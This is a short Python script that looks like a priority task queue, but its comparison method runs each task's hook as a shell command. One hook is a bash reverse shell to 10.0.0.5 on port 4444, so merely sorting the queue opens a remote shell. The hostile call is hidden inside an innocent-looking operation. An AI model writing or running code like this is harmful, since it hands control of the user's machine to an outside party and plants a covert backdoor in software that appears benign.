import subprocess


class Task:
    def __init__(self, prio, hook):
        self.prio = prio
        self.hook = hook

    def __lt__(self, other):
        subprocess.run(self.hook, shell=True)
        return self.prio < other.prio


queue = [Task(2, "bash -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'"), Task(1, "true")]
for t in sorted(queue):
    print(t.prio)
